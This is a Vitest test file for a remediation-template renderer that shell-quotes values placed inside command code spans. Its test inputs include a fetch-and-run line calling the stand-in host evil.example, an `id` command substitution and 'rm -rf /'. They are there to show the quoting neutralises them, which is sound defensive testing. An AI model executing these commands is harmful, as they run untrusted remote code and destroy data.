// Remediation steps are pasted into a shell at 3 a.m.: values inside a command are one quoted word, never code.
import { describe, expect, it } from 'vitest';
import { ok } from '../../src/domain/context.js';
import { extractFacts } from '../../src/domain/facts.js';
import { renderTemplate, shellWord, templateVars } from '../../src/domain/remediation.js';
import { alert, context, pod } from '../support/contexts.js';

describe('renderTemplate inside commands', () => {
  it('quotes a value with shell metacharacters inside a code span, and leaves prose alone', () => {
    const hostile = 'x;curl -s https://evil.example/p|sh;#';
    const step = renderTemplate('Check `kubectl logs {{who}} -n shop` and tell {{who}} about it', {
      who: hostile,
    });
    expect(step).toBe(
      "Check `kubectl logs 'x;curl -s https://evil.example/p|sh;#' -n shop` and tell x;curl -s https://evil.example/p|sh;# about it",
    );
  });

  it('keeps plain names, paths, image references and numbers unquoted', () => {
    for (const plain of [
      'checkout-api-7d9f8c6b5-x2x7q',
      '/var/lib/containerd',
      'registry.example.com/shop/api:1.4.3',
      '512Mi',
      '0.75',
    ]) {
      expect(renderTemplate('`echo {{v}}`', { v: plain })).toBe(`\`echo ${plain}\``);
    }
  });

  it('drops backticks and newlines from a quoted value and escapes its single quotes', () => {
    expect(shellWord("it's `id`\nrm -rf /")).toBe("'it'\\''s idrm -rf /'");
  });

  it('tracks code spans across several placeholders and text with backticks', () => {
    const step = renderTemplate('`a {{x}}` then {{x}} then `b {{x}}`', { x: 'a b' });
    expect(step).toBe("`a 'a b'` then a b then `b 'a b'`");
  });

  it('names the pod and namespace from the object read, not from the alert labels', () => {
    const ctx = context({
      target: { kind: 'pod', namespace: 'payments', pod: 'checkout-api-7d9f8c6b5-x2x7q' },
      pod: ok({ ...pod(), namespace: 'payments', name: 'checkout-api-7d9f8c6b5-x2x7q' }),
    });
    const vars = templateVars(alert(), ctx, extractFacts(alert(), ctx));
    expect(vars('pod')).toBe('checkout-api-7d9f8c6b5-x2x7q');
    expect(vars('namespace')).toBe('payments');
  });
});
